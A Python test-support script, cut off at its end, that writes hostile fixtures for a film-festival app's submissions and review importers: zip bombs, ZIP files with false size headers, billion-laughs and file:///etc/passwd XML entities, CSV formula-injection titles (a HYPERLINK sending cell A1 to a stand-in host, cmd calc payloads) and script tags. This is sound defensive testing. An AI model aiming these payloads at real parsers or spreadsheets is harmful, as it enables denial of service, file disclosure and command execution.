"""Write a corpus of hostile input files for the importers and review parsers, with the outcome
each must have.

    python tests/support/hostile_corpus.py OUTPUT_FOLDER     writes the files and prints the list

Every file is one of: a submissions export (`submissions import FILE`), a review (`review parse
FILE` and `review import FILE`). Each `Case` names what must happen: `refused` (exit code 1, one
line on stderr containing `expect`), or `imported` (exit code 0; for a submissions file, `added`
films and the rejected line numbers `rejected_lines`; for a review, the film title `expect`).

The bombs are small on disk and large once unpacked: a deflate stream of one repeated block is
written once and repeated (each block ends with a full flush, so every copy is the same bytes), so
a member that unpacks to gigabytes costs a few megabytes and no compression time.
"""

from __future__ import annotations

import argparse
import codecs
import io
import os
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

SUBMISSIONS = "submissions"
REVIEW = "review"

MB = 1024 * 1024


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # SUBMISSIONS or REVIEW
    outcome: str  # "refused" or "imported"
    expect: str = ""  # refused: a part of the one-line message; imported review: the film title
    added: int | None = None  # imported submissions: films added
    rejected_lines: tuple[int, ...] = ()  # imported submissions: the lines rejected, in order
    titles: tuple[str, ...] = ()  # imported submissions: titles that must arrive exactly as typed
    write: Callable[[Path], None] = field(default=lambda path: None, repr=False, compare=False)


# --- building blocks ----------------------------------------------------------------------------

FF_HEADERS = ["Submission ID", "Project Title", "Directors", "Country of Origin", "Duration", "Synopsis"]
NAMES = [  # Cyrillic, Greek, Turkish, Slovenian, Hebrew, Japanese
    ("Ёлка на крыше", "Ольга Иванова", "Russia"),
    ("Αθήνα τη νύχτα", "Ελένη Παπαδοπούλου", "Greece"),
    ("Işık ve Gölge", "Işıl Yılmaz", "Turkey"),
    ("Reka, ki teče nazaj", "Tomaž Kovač", "Slovenia"),
    ("הבית על הגבעה", "נועה לוי", "Israel"),
    ("川の向こう", "山田 花子", "Japan"),
]


def _rows(count: int, start: int = 1) -> list[list[str]]:
    rows = []
    for number in range(start, start + count):
        title, director, country = NAMES[(number - 1) % len(NAMES)]
        rows.append([str(9000 + number), f"{title} {number}", director, country, "1:20:00",
                     f"A film about {title}, number {number}."])
    return rows


def _csv_text(rows: list[list[str]], delimiter: str = ",", line_end: str = "\r\n") -> str:
    import csv

    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end)
    writer.writerow(FF_HEADERS)
    writer.writerows(rows)
    return buffer.getvalue()


def _write_text(text: str, encoding: str) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(text.encode(encoding))
    return write


def _sparse(size: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with path.open("wb") as handle:
            handle.truncate(size)
    return write


def _bomb_member(prefix: bytes, block: bytes, copies: int, suffix: bytes) -> tuple[bytes, int, int]:
    """(raw deflate stream, CRC-32, size) of prefix + block * copies + suffix. Each piece ends with
    a full flush, which resets the compressor's history, so the block's bytes are the same every
    time and are computed once."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    once = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    finish = compressor.compress(suffix) + compressor.flush(zlib.Z_FINISH)
    crc = zlib.crc32(prefix)
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(suffix, crc)
    return start + once * copies + finish, crc, len(prefix) + len(block) * copies + len(suffix)


def _raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A ZIP file from (name, data, crc, uncompressed size, method) with exactly the sizes given,
    so that a member may declare a size other than what its stream unpacks to."""
    out = io.BytesIO()
    central = []
    for name, data, crc, size, method in members:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(data), size,
                              len(encoded), 0))
        out.write(encoded)
        out.write(data)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, len(data),
                                   size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start,
                          start, 0))
    return out.getvalue()


def _stored(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = compressor.compress(data) + compressor.flush()
    return name, packed, zlib.crc32(data), len(data), zipfile.ZIP_DEFLATED


# --- spreadsheets --------------------------------------------------------------------------------

_XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        '</Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>'),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'sharedStrings" Target="sharedStrings.xml"/></Relationships>'),
}
_SHEET_OPEN = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
_SHEET_CLOSE = "</sheetData></worksheet>"


def _inline_row(number: int, cells: list[str]) -> str:
    from xml.sax.saxutils import escape

    columns = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return f'<row r="{number}">' + "".join(
        f'<c r="{columns[index]}{number}" t="inlineStr"><is><t>{escape(cell)}</t></is></c>'
        for index, cell in enumerate(cells)) + "</row>"


def _sheet_xml(rows: list[list[str]], prolog: str = "") -> str:
    body = "".join(_inline_row(number, cells) for number, cells in enumerate([FF_HEADERS, *rows], start=1))
    head = _SHEET_OPEN if not prolog else _SHEET_OPEN.replace("\n", "\n" + prolog, 1)
    return head + body + _SHEET_CLOSE


def _xlsx(sheet: tuple[str, bytes, int, int, int] | None = None, shared: str | None = None,
          extra: list[tuple[str, bytes, int, int, int]] = ()) -> bytes:
    members = [_stored(name, text.encode()) for name, text in _XLSX_PARTS.items()]
    members.append(sheet or _stored("xl/worksheets/sheet1.xml", _sheet_xml(_rows(3)).encode()))
    members.append(_stored("xl/sharedStrings.xml", (shared or (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>'
    )).encode()))
    members.extend(extra)
    return _raw_zip(members)


def _write_bytes(data: Callable[[], bytes]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data())
    return write


def _sheet_bomb() -> bytes:
    row = _inline_row(2, _rows(1)[0]).replace(' r="2"', "").replace('r="A2"', "").encode()
    block = row * (MB // len(row))
    prefix = _SHEET_OPEN.encode() + _inline_row(1, FF_HEADERS).encode()
    data, crc, size = _bomb_member(prefix, block, 2048, _SHEET_CLOSE.encode())  # 2 GB of rows
    return _xlsx(sheet=("xl/worksheets/sheet1.xml", data, crc, size, zipfile.ZIP_DEFLATED))


def _lying_sheet() -> bytes:
    """A sheet whose stream unpacks to 1 GB while its header says 2 KB."""
    row = _inline_row(2, _rows(1)[0]).replace(' r="2"', "").replace('r="A2"', "").encode()
    data, crc, _ = _bomb_member(_SHEET_OPEN.encode(), row * (MB // len(row)), 1024, _SHEET_CLOSE.encode())
    return _xlsx(sheet=("xl/worksheets/sheet1.xml", data, crc, 2048, zipfile.ZIP_DEFLATED))


def _shared_strings_bomb() -> bytes:
    block = b"<si><t>" + b"x" * 1000 + b"</t></si>"
    block *= MB // len(block)
    prefix = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
    data, crc, size = _bomb_member(prefix, block, 1024, b"</sst>")
    members = [_stored(name, text.encode()) for name, text in _XLSX_PARTS.items()]
    members.append(_stored("xl/worksheets/sheet1.xml", _sheet_xml(_rows(3)).encode()))
    members.append(("xl/sharedStrings.xml", data, crc, size, zipfile.ZIP_DEFLATED))
    return _raw_zip(members)


_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)) + "]>")
_EXTERNAL = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'


def _entity_sheet(doctype: str, reference: str) -> bytes:
    rows = _rows(2)
    rows[0][1] = reference
    text = _sheet_xml(rows, prolog=doctype).replace(f"<t>{reference.replace('&', '&amp;')}</t>",
                                                    f"<t>{reference}</t>")
    return _xlsx(sheet=_stored("xl/worksheets/sheet1.xml", text.encode()))


def _many_members() -> bytes:
    extra = [_stored(f"xl/media/pad{n}.bin", b"") for n in range(20_000)]
    return _xlsx(extra=extra)


def _good_xlsx(rows: list[list[str]]) -> bytes:
    return _xlsx(sheet=_stored("xl/worksheets/sheet1.xml", _sheet_xml(rows).encode()))


# --- word documents ------------------------------------------------------------------------------

_DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '</Types>')
_DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>')
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_BODY_OPEN = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{_W}"><w:body>'
_BODY_CLOSE = "</w:body></w:document>"

REVIEW_LINES = [
    "Vera Lind",
    "Lind writes about documentary for a weekly in Tallinn.",
    "",
    "WORK, WATER: A crew rebuilds a harbour wall every winter and leaves before it is finished.",
    "",
    "The Harbour Wall",
    "",
    "Jaan Tamm",
    "",
    "Estonia, 2023",
    "",
    "Every winter a crew arrives at the harbour before dawn and stacks stone until the light goes. "
    "The film watches them patiently and asks who the wall is for.",
    "",
    "The director spent three winters with the crew, and the camera rarely moves.",
]


def _paragraph(text: str) -> str:
    from xml.sax.saxutils import escape

    return f"<w:p><w:r><w:t xml:space=\"preserve\">{escape(text)}</w:t></w:r></w:p>"


def _docx(document: tuple[str, bytes, int, int, int]) -> bytes:
    return _raw_zip([_stored("[Content_Types].xml", _DOCX_TYPES.encode()),
                     _stored("_rels/.rels", _DOCX_RELS.encode()), document])


def _docx_text(paragraphs: list[str], prolog: str = "") -> bytes:
    body = _BODY_OPEN if not prolog else _BODY_OPEN.replace("\n", "\n" + prolog, 1)
    xml = body + "".join(_paragraph(text) for text in paragraphs if text) + _BODY_CLOSE
    return _docx(_stored("word/document.xml", xml.encode()))


def _docx_bomb() -> bytes:
    block = _paragraph("All work and no play makes a dull review. " * 20).encode()
    block *= MB // len(block)
    data, crc, size = _bomb_member(_BODY_OPEN.encode(), block, 2048, _BODY_CLOSE.encode())
    return _docx(("word/document.xml", data, crc, size, zipfile.ZIP_DEFLATED))


def _docx_huge_text_node() -> bytes:
    rng = random.Random(18)
    letters = "abcdefghijklmnopqrstuvwxyz"
    node = "".join(rng.choice(letters) for _ in range(10 * MB))
    return _docx_text([*REVIEW_LINES[:12], node])


def _docx_entity(doctype: str, reference: str) -> bytes:
    xml = (_BODY_OPEN.replace("\n", "\n" + doctype, 1) + "".join(_paragraph(t) for t in REVIEW_LINES if t)
           + f"<w:p><w:r><w:t>{reference}</w:t></w:r></w:p>" + _BODY_CLOSE)
    return _docx(_stored("word/document.xml", xml.encode()))


# --- the corpus ----------------------------------------------------------------------------------


def _unterminated_quote() -> str:
    rows = _rows(10)
    text = _csv_text(rows)
    lines = text.split("\r\n")
    # line 4 (the third film): an opening quote that is never closed
    lines[3] = lines[3].replace(f",{rows[2][1]},", f',"{rows[2][1]},', 1)
    return "\r\n".join(lines)


def _quoted_rows() -> str:
    """Every cell quoted (as many exporters write), and one row's title with an unclosed quote."""
    import csv

    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(FF_HEADERS)
    rows = _rows(8)
    writer.writerows(rows)
    lines = buffer.getvalue().split("\r\n")
    lines[5] = lines[5].replace(f'"{rows[4][1]}"', f'"{rows[4][1]}', 1)  # the fifth film, line 6
    return "\r\n".join(lines)


def _wrong_field_count() -> str:
    lines = _csv_text(_rows(5)).split("\r\n")
    lines[2] = lines[2] + ",surplus,cells,here"  # line 3
    lines[4] = ",".join(lines[4].split(",")[:2])  # line 5: two cells only
    return "\r\n".join(lines)


FORMULA_TITLES = ('=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                  "-2+3+cmd|' /C calc'!A0", "\tTabbed title", "=1+1")
MARKUP_TITLES = ("<script>alert(1)</script>", "<b>Bold</b> & <i>Italic", "AT&T; &amp; &lt;Lost&gt;",
                 "Lost & <Found>")


def _titled(titles: tuple[str, ...]) -> str:
    rows = _rows(len(titles))
    for row, title in zip(rows, titles):
        row[1] = title
    return _csv_text(rows)


def _huge_single_line() -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with path.open("w", encoding="utf-8", newline="") as handle:
            handle.write(_csv_text(_rows(2)))
            chunk = "9999,Endless," + "x" * (MB - 13)
            for _ in range(20):  # 20 MB on one line (under the 24 MB a file may have), no line end
                handle.write(chunk)
                chunk = "x" * MB
    return write


def _huge_quoted_cell() -> str:
    rows = _rows(4)
    rows[1][5] = "word " * 60_000  # 300,000 characters in one synopsis cell, line 3
    return _csv_text(rows)


def _many_rows() -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with path.open("w", encoding="utf-8", newline="") as handle:
            handle.write(",".join(FF_HEADERS) + "\n")
            for number in range(1, 200_002):
                handle.write(f"{number},Film {number},,,,\n")
    return write


def _nul_in_text() -> bytes:
    text = _csv_text(_rows(3)).encode("utf-8")
    return text[:200] + b"\x00\x00\x00" + text[200:]


def _review_lines(title: str = "The Harbour Wall", director: str = "Jaan Tamm", year: int = 2023) -> list[str]:
    """A review (see shared/formats/reviews.md) of the film `title` by `director`: each review of
    the corpus is about a film of its own, so that an import attaches it without ambiguity."""
    return [line.replace("The Harbour Wall", title).replace("Jaan Tamm", director).replace("2023", str(year))
            for line in REVIEW_LINES]


def _review_text(title: str = "The Harbour Wall", director: str = "Jaan Tamm", year: int = 2023) -> str:
    return "\n".join(_review_lines(title, director, year)) + "\n"


def _deep_html(depth: int, title: str, director: str, year: int) -> str:
    paragraphs = "".join(f"<p>{line}</p>" for line in _review_lines(title, director, year) if line)
    return ("<!DOCTYPE html><html><body><article>" + "<div>" * depth + paragraphs + "</div>" * depth
            + "</article></body></html>")


def _one_word_line(size: int, title: str, director: str, year: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_text(_review_text(title, director, year) + "\n" + "y" * size + "\n", encoding="utf-8")
    return write


def _words_without_stops(size: int, title: str, director: str, year: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        rng = random.Random(5)
        words = "stone harbour crew winter light wall sea boat rope gull".split()
        body = " ".join(rng.choice(words) for _ in range(size // 6))
        path.write_text(_review_text(title, director, year) + "\n" + body + "\n", encoding="utf-8")
    return write


def _markdown_nesting() -> str:
    return (_review_text("Deep Water", "Liis Kask", 2019) + "\n" + ">" * 100_000 + " deep\n" + "*" * 5_000
            + "\n" + "[" * 5_000 + "\n")


def cases() -> list[Case]:
    """The corpus: every file with the outcome it must have."""
    utf16_rows = _rows(12)
    names = tuple(row[1] for row in utf16_rows)
    return [
        # submissions: containers
        Case("zip_bomb_sheet.xlsx", SUBMISSIONS, "refused", "MB", write=_write_bytes(_sheet_bomb)),
        Case("zip_bomb_shared_strings.xlsx", SUBMISSIONS, "refused", "MB", write=_write_bytes(_shared_strings_bomb)),
        Case("zip_lying_sizes.xlsx", SUBMISSIONS, "refused", "not a readable Excel workbook",
             write=_write_bytes(_lying_sheet)),
        Case("zip_many_members.xlsx", SUBMISSIONS, "refused", "parts", write=_write_bytes(_many_members)),
        Case("xml_entity_expansion.xlsx", SUBMISSIONS, "refused", "XML entities",
             write=_write_bytes(lambda: _entity_sheet(_LAUGHS, "&lol9;"))),
        Case("xml_external_entity.xlsx", SUBMISSIONS, "refused", "XML entities",
             write=_write_bytes(lambda: _entity_sheet(_EXTERNAL, "&secret;"))),
        Case("truncated.xlsx", SUBMISSIONS, "refused", "not a readable Excel workbook",
             write=_write_bytes(lambda: _good_xlsx(_rows(20))[:900])),
        Case("random_bytes.xlsx", SUBMISSIONS, "refused", "not a readable Excel workbook",
             write=_write_bytes(lambda: b"PK\x03\x04" + random.Random(1).randbytes(50_000))),
        Case("good.xlsx", SUBMISSIONS, "imported", added=5, titles=tuple(row[1] for row in _rows(5)),
             write=_write_bytes(lambda: _good_xlsx(_rows(5)))),
        # submissions: text
        Case("empty.csv", SUBMISSIONS, "refused", "empty", write=_write_text("", "utf-8")),
        Case("blank_lines.csv", SUBMISSIONS, "refused", "empty", write=_write_text("\r\n \r\n\r\n", "utf-8")),
        Case("binary.csv", SUBMISSIONS, "refused", "binary",
             write=_write_bytes(lambda: random.Random(2).randbytes(100_000))),
        Case("nul_bytes.csv", SUBMISSIONS, "refused", "binary", write=_write_bytes(_nul_in_text)),
        Case("huge_file.csv", SUBMISSIONS, "refused", "larger than", write=_sparse(3 * 1024 * MB)),
        Case("huge_single_line.csv", SUBMISSIONS, "imported", added=2, rejected_lines=(4,),
             write=_huge_single_line()),
        Case("huge_quoted_cell.csv", SUBMISSIONS, "imported", added=3, rejected_lines=(3,),
             write=_write_text(_huge_quoted_cell(), "utf-8")),
        Case("too_many_rows.csv", SUBMISSIONS, "refused", "rows at a time", write=_many_rows()),
        Case("unterminated_quote.csv", SUBMISSIONS, "imported", added=9, rejected_lines=(4,),
             titles=tuple(row[1] for index, row in enumerate(_rows(10)) if index != 2),
             write=_write_text(_unterminated_quote(), "utf-8")),
        Case("unterminated_quote_all_quoted.csv", SUBMISSIONS, "imported", added=7, rejected_lines=(6,),
             titles=tuple(row[1] for index, row in enumerate(_rows(8)) if index != 4),
             write=_write_text(_quoted_rows(), "utf-8")),
        Case("wrong_field_count.csv", SUBMISSIONS, "imported", added=3, rejected_lines=(3, 5),
             write=_write_text(_wrong_field_count(), "utf-8")),
        Case("formula_titles.csv", SUBMISSIONS, "imported", added=len(FORMULA_TITLES),
             titles=tuple(title.strip() for title in FORMULA_TITLES), write=_write_text(_titled(FORMULA_TITLES), "utf-8")),
        Case("markup_titles.csv", SUBMISSIONS, "imported", added=len(MARKUP_TITLES), titles=MARKUP_TITLES,
             write=_write_text(_titled(MARKUP_TITLES), "utf-8")),
        # Excel's "Unicode Text" (UTF-16 LE, BOM, tabs, CRLF), UTF-16 CSV both ways, "CSV UTF-8"
        Case("unicode_text.txt", SUBMISSIONS, "imported", added=12, titles=names,
             write=_write_text("\ufeff" + _csv_text(utf16_rows, "\t"), "utf-16-le")),
        Case("utf16le.csv", SUBMISSIONS, "imported", added=12, titles=names,
             write=_write_text("\ufeff" + _csv_text(utf16_rows), "utf-16-le")),
        Case("utf16be.csv", SUBMISSIONS, "imported", added=12, titles=names,
             write=_write_text("\ufeff" + _csv_text(utf16_rows, ";"), "utf-16-be")),
        Case("csv_utf8.csv", SUBMISSIONS, "imported", added=12, titles=names,
             write=_write_text("\ufeff" + _csv_text(utf16_rows), "utf-8")),
        Case("utf16_odd_length.csv", SUBMISSIONS, "refused", "UTF-16",
             write=_write_bytes(lambda: codecs.BOM_UTF16_LE + _csv_text(_rows(2)).encode("utf-16-le") + b"\x41")),
        # reviews
        Case("review_zip_bomb.docx", REVIEW, "refused", "MB", write=_write_bytes(_docx_bomb)),
        Case("review_huge_text_node.docx", REVIEW, "refused", "MB", write=_write_bytes(_docx_huge_text_node)),
        # 5 MB of ordinary paragraphs: more Word XML than the 4 MB a review's body may have
        Case("review_word_body_over_limit.docx", REVIEW, "refused", "more than the 4.0 MB",
             write=_write_bytes(lambda: _docx_text(REVIEW_LINES + ["The crew stacks stone until the light goes. " * 20]
                                                   * 5_000))),
        Case("review_entity_expansion.docx", REVIEW, "refused", "XML entities",
             write=_write_bytes(lambda: _docx_entity(_LAUGHS, "&lol9;"))),
        Case("review_external_entity.docx", REVIEW, "refused", "XML entities",
             write=_write_bytes(lambda: _docx_entity(_EXTERNAL, "&secret;"))),
        Case("review_not_word.docx", REVIEW, "refused", "not a Word document",
             write=_write_bytes(lambda: _raw_zip([_stored("hello.txt", b"hello")]))),
        Case("review_garbage_zip.docx", REVIEW, "refused", "not a readable Word document",
             write=_write_bytes(lambda: b"PK\x03\x04" + random.Random(3).randbytes(20_000))),
        Case("review_good.docx", REVIEW, "imported", "The Harbour Wall",
             write=_write_bytes(lambda: _docx_text(REVIEW_LINES))),
        Case("review_many_parts.docx", REVIEW, "refused", "parts",
             write=_write_bytes(lambda: _raw_zip([_stored(f"word/media/p{n}.bin", b"") for n in range(12_000)]))),
        Case("review_50mb.txt", REVIEW, "refused", "larger than", write=_sparse(50 * MB)),
        Case("review_word_over_limit.docx", REVIEW, "refused", "larger than", write=_sparse(21 * MB)),
        Case("review_one_long_word.txt", REVIEW, "imported", "The Long Word",
             write=_one_word_line(3900 * 1024, "The Long Word", "Mari Saar", 2011)),
        Case("review_words_without_stops.txt", REVIEW, "imported", "Without Stops",
             write=_words_without_stops(3900 * 1024, "Without Stops", "Peeter Org", 2012)),
        Case("review_nul.txt", REVIEW, "refused", "binary",
             write=_write_bytes(lambda: _review_text().encode()[:100] + b"\x00" * 50 + _review_text().encode())),
        Case("review_empty.txt", REVIEW, "refused", "empty", write=_write_text("", "utf-8")),
        Case("review_whitespace.txt", REVIEW, "refused", "empty", write=_write_text(" \n\t\r\n ", "utf-8")),
        Case("review_utf16.txt", REVIEW, "imported", "Ёлка на крыше",
             write=_write_text("\ufeff" + _review_text("Ёлка на крыше", "Ольга Иванова", 2014), "utf-16-le")),
        Case("review_utf16_be.md", REVIEW, "imported", "Αθήνα τη νύχτα",
             write=_write_text("\ufeff" + _review_text("Αθήνα τη νύχτα", "Ελένη Παπαδοπούλου", 2015), "utf-16-be")),
        Case("review_deep_nesting.html", REVIEW, "refused", "nests",
             write=_write_text(_deep_html(5_000, "Too Deep", "Kati Mets", 2016), "utf-8")),
        Case("review_nesting_just_too_deep.html", REVIEW, "refused", "nests",
             write=_write_text(_deep_html(240, "Just Too Deep", "Kati Mets", 2005), "utf-8")),
        Case("review_many_tags_deep.html", REVIEW, "refused", "tags",
             write=_write_text(_deep_html(200_000, "Many Deep", "Kati Mets", 2004), "utf-8")),
        Case("review_nested_page.html", REVIEW, "imported", "Nested Page",
             write=_write_text(_deep_html(60, "Nested Page", "Rein Kuusk", 2017), "utf-8")),
        Case("review_markdown_emphasis.md", REVIEW, "refused", "marks",
             write=_write_text(_review_text("Emphasis", "Kersti Vaher", 2010) + "\n" + "_a_ [b" * 80_000 + "\n", "utf-8")),
        Case("review_markdown_some_emphasis.md", REVIEW, "imported", "Some Emphasis",
             write=_write_text(_review_text("Some Emphasis", "Kersti Vaher", 2007) + "\n" + "_a_ [b" * 6_500 + "\n", "utf-8")),
        Case("review_markdown_too_large.md", REVIEW, "refused", "larger than",
             write=_write_text(_review_text("Too Large", "Kersti Vaher", 2009) + "\nword " * 120_000, "utf-8")),
        Case("review_many_tags.html", REVIEW, "imported", "Many Tags",
             write=_write_text(_deep_html(3, "Many Tags", "Urmas Kivi", 2006).replace(
                 "</article>", "<p><b>a</b><i>b</i></p>" * 6_000 + "</article>"), "utf-8")),
        Case("review_tag_soup.html", REVIEW, "refused", "tags",
             write=_write_text(_deep_html(3, "Tag Soup", "Urmas Kivi", 2008).replace(
                 "</article>", "<p><b>a</b><i>b</i></p>" * 130_000 + "</article>"), "utf-8")),
        Case("review_markdown_nesting.md", REVIEW, "imported", "Deep Water", write=_write_text(_markdown_nesting(), "utf-8")),
        Case("review_markup.txt", REVIEW, "imported", "<script>alert(1)</script> & AT&T",
             write=_write_text(_review_text("<script>alert(1)</script> & AT&T", "Anu Lepp", 2018), "utf-8")),
        Case("review_formula.txt", REVIEW, "imported", "=cmd|' /C calc'!A0",
             write=_write_text(_review_text("=cmd|' /C calc'!A0", "Toomas Pärn", 2020), "utf-8")),
        Case("review_pdf.txt", REVIEW, "refused", "PDF", write=_write_bytes(lambda: b"%PDF-1.7\n" + b"0" * 1000)),
    ]


def _at_limit(rows: int, row: Callable[[int], list[str]], header: list[str]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        import csv

        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(header)
            for number in range(rows):
                writer.writerow(row(number))
    return write


def _column_letters(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _wide_sheet(rows: int, header: list[str], row: Callable[[int], list[str]]) -> bytes:
    """A workbook of inline-string cells with no <dimension> element (the slowest form to read)."""
    from xml.sax.saxutils import escape

    def line(number: int, cells: list[str]) -> str:
        return f'<row r="{number}">' + "".join(
            f'<c r="{_column_letters(index)}{number}" t="inlineStr"><is><t>{escape(cell)}</t></is></c>'
            for index, cell in enumerate(cells)) + "</row>"

    xml = _SHEET_OPEN + line(1, header) + "".join(line(number + 2, row(number)) for number in range(rows)) + _SHEET_CLOSE
    return _xlsx(sheet=_stored("xl/worksheets/sheet1.xml", xml.encode()))


LIMIT_ROWS = 24_990  # just under the 25,000 rows an import takes


def _sentence(rng: random.Random, words: list[str]) -> str:
    return " ".join(rng.choice(words) for _ in range(rng.randint(6, 14))).capitalize() + "."


def _review_at_limit(kind: str, title: str, director: str, year: int) -> Callable[[Path], None]:
    """A review of many short paragraphs just under the limit of its format: plain text 4 MB, a
    web page 3 MB and 40,000 tags, Markdown 512 KB and 20,000 marks, a Word body of 4 MB of XML."""
    def write(path: Path) -> None:
        rng = random.Random(kind)
        words = "stone harbour crew winter light wall sea boat rope gull".split()
        head = _review_lines(title, director, year)
        if kind == "text":
            body, size = [], 0
            while size < 4 * MB - 60_000:
                body.append(_sentence(rng, words))
                size += len(body[-1]) + 2
            path.write_text("\n".join(head) + "\n\n" + "\n\n".join(body) + "\n", encoding="utf-8")
        elif kind == "html":
            paragraphs = "".join(f"<p>{_sentence(rng, words)} {_sentence(rng, words)}</p>" for _ in range(19_900))
            page = _deep_html(3, title, director, year).replace("</article>", paragraphs + "</article>")
            filler = " ".join(rng.choice(words) for _ in range((3 * MB - 40_000 - len(page)) // 6))
            path.write_text(page.replace("</article>", f"<p>{filler}</p></article>"), encoding="utf-8")
        elif kind == "markdown":
            body = [f"*{_sentence(rng, words)}* and _{_sentence(rng, words)}_" for _ in range(4_900)]
            text = "\n".join(head) + "\n\n" + "\n\n".join(body) + "\n"
            path.write_text(text[:500_000], encoding="utf-8")
        else:
            paragraphs, size = [_paragraph(line) for line in head if line], 0
            while size < 4 * MB - 100_000:
                paragraphs.append(_paragraph(_sentence(rng, words)))
                size += len(paragraphs[-1].encode())
            xml = _BODY_OPEN + "".join(paragraphs) + _BODY_CLOSE
            path.write_bytes(_docx(_stored("word/document.xml", xml.encode())))
    return write


def limit_cases() -> list[Case]:
    """Legitimate files just inside each limit of an import, and one inside all of a submissions
    import's limits at once (for the benchmark: the most time and memory an import may take)."""
    rng = random.Random(30)
    words = "river winter salt harbour night čas ёлка αθήνα işık café kovač house road mother archive".split()
    rows = LIMIT_ROWS
    names_header = ["Submission ID", "Project Title", "Directors", "Key Cast", "Country of Origin", "Duration", "Synopsis"]
    everything_header = ["Submission ID", "Project Title", "Directors", "Writers", "Key Cast", "Country of Origin",
